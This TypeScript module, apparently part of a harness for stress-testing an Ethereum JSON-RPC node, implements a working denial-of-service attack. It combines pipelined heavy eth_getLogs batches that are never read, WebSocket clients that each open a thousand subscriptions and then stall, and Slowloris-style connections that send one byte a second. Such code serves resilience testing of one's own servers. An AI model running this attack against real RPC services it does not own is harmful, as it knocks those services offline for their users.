import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { WebSocket } from 'ws'
import type { Attack } from '../AttackTarget.ts'
import { request } from '../request.ts'

const CLIENTS = 25
const SUBSCRIPTIONS = 1_000

/** Clients that ask for megabytes and read nothing, that subscribe to all and read nothing, that send a byte a second. */
export const slowReaders: Attack = async ({ target, signal }) => {
  const { hostname, port, pathname } = new URL(target.url)
  const logs = { fromBlock: 'earliest', toBlock: 'latest', address: target.logger }
  const body = JSON.stringify(Array.from({ length: 20 }, () => request('eth_getLogs', logs)))
  const streams: Socket[] = []
  const sockets: WebSocket[] = []
  const open = () => {
    const stream = connect(Number(port), hostname).on('error', () => undefined)
    streams.push(stream)
    return stream
  }
  for (let i = 0; i < CLIENTS; i++) {
    const head = `POST ${pathname} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n`
    const stream = open().pause()
    for (let again = 0; again < 10; again++) {
      stream.write(`${head}content-length: ${body.length}\r\n\r\n${body}`)
    }
    const socket = new WebSocket(target.url.replace('http:', 'ws:'))
    sockets.push(socket)
    socket.on('error', () => undefined)
    socket.once('open', () => {
      for (let n = 0; n < SUBSCRIPTIONS; n++) {
        socket.send(JSON.stringify(request('eth_subscribe', 'newHeads')))
      }
      for (let n = 0; n < 50; n++) socket.send(body)
      socket.pause()
    })
  }
  const lorises = Array.from({ length: CLIENTS }, open)
  while (!signal.aborted) {
    for (const loris of lorises) if (!loris.destroyed) loris.write('P')
    await delay(1_000, undefined, { signal }).catch(() => undefined)
  }
  for (const stream of streams) stream.destroy()
  for (const socket of sockets) socket.terminate()
}
